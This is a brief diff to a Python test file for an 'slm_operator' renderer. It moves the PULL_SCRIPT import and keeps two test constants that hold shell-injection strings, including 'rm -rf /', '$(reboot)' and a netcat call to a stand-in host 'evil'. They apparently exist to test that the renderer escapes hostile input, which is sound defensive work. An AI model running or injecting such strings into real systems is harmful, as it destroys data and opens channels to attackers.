@@ -17,8 +17,8 @@ import pytest
 from render_cases import builtin_config, case, containers, make_model, make_plan
 
 from slm_operator.render import render_children
-from slm_operator.render.containers import PULL_SCRIPT
 from slm_operator.render.deployment import render_deployment
+from slm_operator.render.ollama import PULL_SCRIPT
 
 HOSTILE_SYSTEM = "$(touch /tmp/pwned) `id` ; rm -rf / # \"quoted\" 'single' && echo"
 HOSTILE_MESSAGE = "${HOME} $(reboot) | nc evil 1"
